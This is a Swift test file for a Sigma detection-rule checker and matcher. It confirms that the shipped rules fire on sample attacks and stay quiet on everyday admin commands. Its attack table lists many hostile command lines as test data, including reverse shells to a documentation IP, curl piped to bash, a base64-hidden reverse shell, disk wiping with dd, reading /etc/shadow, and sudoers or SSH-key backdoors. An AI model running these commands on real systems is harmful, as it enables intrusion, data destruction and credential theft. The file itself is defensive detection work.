import CordonAdmin
import CordonCore
import CordonPolicy
import CordonTelemetry
import CordonTestSupport
import CordonTrust
import Foundation
import Testing

@Suite struct SigmaCommandTests {
  private static let rules = URL(filePath: #filePath).appending(path: "../../../../deploy/sigma").standardizedFileURL

  private static let good = """
    title: Netcat
    id: good-1
    level: high
    logsource: {product: linux, category: process_creation}
    detection: {s: {'Image|endswith': /nc}, condition: s}
    """

  private func withRules(_ body: (CommandHarness, String) async throws -> Void) async throws {
    try await withTemporaryFolder { folder in
      try FileManager.default.createDirectory(atPath: "\(folder)/rules/below", withIntermediateDirectories: true)
      func write(_ name: String, _ text: String) throws {
        try PrivateFile.create(at: "\(folder)/rules/\(name)", holding: Array(text.utf8))
      }
      try write("good.yml", Self.good)
      try write(
        "below/field.yaml", Self.good.replacing("'Image|endswith'", with: "Hashes").replacing("good", with: "b"))
      try write("below/source.yml", Self.good.replacing("linux", with: "macos").replacing("good", with: "c"))
      try write("notes.txt", "no rule")
      try await body(CommandHarness(folder: folder), folder)
    }
  }

  @Test func checkSaysWhatWorksAndGroupsWhatDoesNot() async throws {
    try await withRules { harness, folder in
      let run = await harness.run("policy", "sigma", "check", "\(folder)/rules", "--all")
      #expect(run.code == 0, "\(run.errors)")
      #expect(run.output.hasPrefix("1 of 3 rules work (33.3 %)\n"), "\(run.output)")
      #expect(run.output.contains("Hashes") && run.output.contains("macos/process_creation"))
      #expect(run.output.contains("below/field.yaml:5:17: error: detection.s.Hashes: "), "\(run.output)")
      let json = await harness.run("policy", "sigma", "check", "\(folder)/rules", "--output", "json")
      #expect(json.output.contains("\"compiled\":1") || json.output.contains("\"compiled\": 1"), "\(json.output)")
      let none = await harness.run("policy", "sigma", "check", "\(folder)/rules/below")
      #expect(none.code == 65)
    }
  }

  @Test func matchTellsRulesByEvent() async throws {
    try await withRules { harness, folder in
      let events = "\(folder)/events.csv"
      try PrivateFile.create(at: events, holding: Array("Image,Other\n/bin/ls,x\n/bin/NC,y\n".utf8))
      let run = await harness.run("policy", "sigma", "match", "\(folder)/rules", "--events", events)
      #expect(run.output.hasSuffix("2 events, 1 rules, 1 matches\n") && run.output.contains("good-1"), "\(run.output)")
      let wrong = await harness.run("policy", "sigma", "match", "\(folder)/rules", "--events", events, "--source", "x")
      #expect(wrong.code == 65, "\(wrong.errors)")
    }
  }

  @Test func aPolicyFindsItsRulesFromItsOwnFolder() async throws {
    try await withRules { harness, folder in
      let file = "\(folder)/policy.yaml"
      try PrivateFile.create(at: file, holding: Array("name: p\nsigma: {rules: [rules]}\n".utf8))
      let run = await harness.run("policy", "lint", file)
      #expect(run.code == 0 && run.output.contains("0 errors, 2 warnings"), "\(run.output)")
    }
  }

  // MARK: The rules that ship

  static func shipped() throws -> [String: SigmaRule] {
    let compiler = SigmaCompiler(checkExpression: { RegularExpression.problem(with: $0, options: $1) })
    var rules: [String: SigmaRule] = [:]
    for name in try FileManager.default.contentsOfDirectory(atPath: Self.rules.path) where name.hasSuffix(".yml") {
      let bytes = [UInt8](try Data(contentsOf: Self.rules.appending(path: name)))
      guard case .compiled(let rule) = compiler.compile(bytes, file: name) else {
        Issue.record("\(name) is refused")
        continue
      }
      rules[String(name.dropLast(4))] = rule
    }
    return rules
  }

  static func found(_ fields: [SigmaField: String], _ source: SigmaSource) throws -> Set<String> {
    let shipped = try shipped().sorted { $0.key < $1.key }
    var matcher = try SigmaMatcher(shipped.map(\.value))
    var event = SigmaEvent()
    for (field, text) in fields { event.set(field, text.utf8) }
    var matched: [Int] = []
    matcher.match(event, of: source, into: &matched)
    return Set(matched.map { shipped[$0].key })
  }

  /// One attack for each rule: program, command line, and the parent's program where the rule asks for it.
  private static let attacks: [(rule: String, image: String, line: String, parent: String)] = [
    ("account-of-superuser-added", "/usr/sbin/useradd", "useradd -o -u 0 -g 0 backdoor", ""),
    ("archive-encrypted-and-removed", "/usr/bin/7z", "7z a -pSecret -sdel out.7z /srv/shares", ""),
    ("audit-stopped", "/usr/sbin/auditctl", "auditctl -e 0", ""),
    ("backups-destroyed", "/usr/bin/restic", "restic forget --keep-last 0 --prune", ""),
    ("container-escape-namespace", "/usr/bin/nsenter", "nsenter --target 1 --mount --uts sh", ""),
    ("core-pattern-changed", "/bin/sh", "sh -c echo '|/tmp/x' > /proc/sys/kernel/core_pattern", ""),
    ("cron-job-from-network", "/bin/sh", "sh -c (crontab -l; echo '* * * * * curl http://x/y|sh')|crontab -", ""),
    ("cryptominer-started", "/tmp/xmrig", "./xmrig -o stratum+tcp://pool:3333", ""),
    ("decoded-to-shell", "/bin/sh", "sh -c echo aWQ= | base64 -d | bash", ""),
    ("defence-stopped", "/usr/bin/systemctl", "systemctl stop clamav-daemon", ""),
    ("download-piped-to-shell", "/bin/sh", "sh -c curl -s http://192.0.2.1/x | bash", ""),
    ("files-wiped", "/bin/dd", "dd if=/dev/zero of=/dev/sda bs=1M", ""),
    ("firewall-opened", "/usr/sbin/iptables", "iptables -F", ""),
    ("hidden-program-in-temporary-folder", "/tmp/.x/.worker", ".worker", ""),
    ("hidden-reverse-shell", "/bin/sh", "sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLzIgMD4mMQ== | base64 -d", ""),
    ("mandatory-access-control-off", "/usr/sbin/setenforce", "setenforce 0", ""),
    ("password-hashes-read", "/bin/cat", "cat /etc/shadow", ""),
    ("preload-library-file", "/bin/sh", "sh -c echo /lib/x.so > /etc/ld.so.preload", ""),
    ("process-memory-of-credentials", "/usr/bin/gcore", "gcore -o /tmp/x sshd", ""),
    ("program-in-shared-memory", "/dev/shm/a", "a", ""), ("program-without-file", "memfd:kworker", "kworker", ""),
    ("reverse-shell-dev-tcp", "/bin/bash", "bash -c bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ""),
    ("reverse-shell-interpreter", "/usr/bin/python3.11", "python3 -c import socket,pty;pty.spawn('/bin/sh')", ""),
    ("reverse-shell-netcat", "/usr/bin/ncat", "ncat 192.0.2.1 443 -e /bin/sh", ""),
    ("reverse-shell-pipe", "/bin/sh", "sh -c rm f;mkfifo f;cat f|/bin/sh -i 2>&1|nc 192.0.2.1 443 >f", ""),
    ("setuid-shell", "/bin/chmod", "chmod u+s /tmp/bash", ""),
    ("shell-from-service", "/bin/sh", "sh -c whoami; uname -a", "/usr/sbin/php-fpm8.2"),
    ("shell-history-hidden", "/bin/rm", "rm -f /root/.bash_history", ""),
    ("socat-shell", "/usr/bin/socat", "socat TCP:192.0.2.1:443 EXEC:/bin/sh", ""),
    ("ssh-key-added-by-shell", "/bin/sh", "sh -c echo ssh-ed25519 A >> /root/.ssh/authorized_keys", ""),
    ("sudoers-changed-by-shell", "/bin/sh", "sh -c echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", ""),
    ("system-log-deleted", "/bin/rm", "rm -rf /var/log/auth.log", ""),
    ("tunnel-to-outside", "/opt/ngrok", "ngrok tcp 22", ""),
  ]

  @Test func everyRuleThatShipsFindsWhatItIsFor() throws {
    var tried: Set<String> = []
    for attack in Self.attacks {
      var fields: [SigmaField: String] = [.image: attack.image, .commandLine: attack.line]
      if !attack.parent.isEmpty { fields[.parentImage] = attack.parent }
      #expect(try Self.found(fields, .processCreation).contains(attack.rule), "\(attack.rule): \(attack.line)")
      tried.insert(attack.rule)
    }
    let note: [SigmaField: String] = [.targetFilename: "/srv/shares/HOW_TO_DECRYPT.txt"]
    #expect(try Self.found(note, .fileEvent) == ["ransom-note-written"])
    let cloud: [SigmaField: String] = [.image: "/usr/bin/curl", .destinationIP: "169.254.169.254"]
    #expect(try Self.found(cloud, .networkConnection) == ["connection-to-metadata-service"])
    let dropped: [SigmaField: String] = [.image: "/tmp/a", .destinationIP: "192.0.2.1"]
    #expect(try Self.found(dropped, .networkConnection) == ["connection-from-temporary-folder"])
    tried.formUnion([
      "ransom-note-written", "connection-to-metadata-service", "connection-from-temporary-folder",
    ])
    let own = try Self.shipped().keys.filter { !$0.hasPrefix("windows-") }
    #expect(tried == Set(own), "every rule has its attack")
  }

  /// What administrators and timers do all day.
  @Test(arguments: [
    ("/bin/bash", "bash -l"), ("/usr/bin/sudo", "sudo apt-get upgrade"), ("/usr/bin/crontab", "crontab -l"),
    ("/usr/bin/curl", "curl -fsS https://mirror.example/key.asc -o key.asc"), ("/bin/chmod", "chmod 0755 /usr/bin/x"),
    ("/usr/bin/systemctl", "systemctl restart nginx"), ("/usr/bin/systemctl", "systemctl status auditd"),
    ("/usr/sbin/iptables", "iptables -L -n"), ("/usr/sbin/useradd", "useradd -m -u 1004 ann"),
    ("/bin/rm", "rm -rf /var/log/app/old.log.1.gz"), ("/usr/bin/journalctl", "journalctl --vacuum-time=30d"),
    ("/usr/bin/7z", "7z a backup.7z /srv/data"), ("/bin/dd", "dd if=/dev/zero of=/swapfile bs=1M count=512"),
    ("/usr/bin/docker", "docker run --rm -v /srv/data:/data image"), ("/usr/bin/restic", "restic backup /srv"),
    ("/usr/bin/python3.11", "python3 -m http.server"), ("/bin/grep", "grep -r preload /etc/ld.so.conf.d"),
    ("/usr/bin/ssh-copy-id", "ssh-copy-id ann@host"), ("/usr/bin/openssl", "openssl enc -d -aes-256-cbc -in a -out b"),
    ("/usr/bin/zfs", "zfs list -t snapshot"), ("/usr/bin/nc", "nc -z 10.0.0.1 22"),
    ("/usr/sbin/auditctl", "auditctl -l"),
    ("/usr/sbin/getenforce", "getenforce"), ("/usr/bin/find", "find /tmp -mtime +7 -delete"),
    ("/usr/bin/base64", "base64 -d certificate.b64"), ("/usr/bin/unzip", "unzip -P x a.zip"),
  ])
  func everydayCommandsTripNone(image: String, line: String) throws {
    #expect(try Self.found([.image: image, .commandLine: line], .processCreation) == [])
  }
}
